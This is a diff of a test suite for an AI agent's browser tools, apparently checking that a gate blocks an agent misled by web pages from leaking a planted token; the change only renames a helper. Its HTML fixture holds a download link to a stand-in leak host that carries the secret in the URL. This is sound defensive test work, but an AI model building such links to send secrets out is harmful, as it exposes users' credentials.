@@ -82,7 +82,7 @@ needs(missing)('a model that obeys its pages', () => {
 <input type=password aria-label=Password ${grab}><input type=file aria-label=Paper ${file}><a download href="http://x.leak.test:${leak.port}/x?${SECRET}">Get it</a>`
     const secret = join(scene.folder, 'secret.txt')
     await writeFile(secret, SECRET)
-    const told = (text: string): Entry => ({
+    const result = (text: string): Entry => ({
       ...{ type: 'message', seq: 1, atMs: 0 },
       message: { role: 'tool', callId: 'c', toolName: 'read_file', content: [{ type: 'text', text }] },
     })
@@ -91,7 +91,7 @@ needs(missing)('a model that obeys its pages', () => {
       scene.call(tool, args, led.session).catch((error: Error) => error.message)
     const go = (url: string, isByProgram = false) => {
       const { speech } = scene.sessions.get(led.session).gate
-      speech.heard({ entries: [told(`TOKEN=${SECRET}`)], isByProgram, isDelegated: false })
+      speech.heard({ entries: [result(`TOKEN=${SECRET}`)], isByProgram, isDelegated: false })
       return call('browser_navigate', { url })
     }
     const into = async (what: string) => ref(await call('browser_snapshot', {}), what)
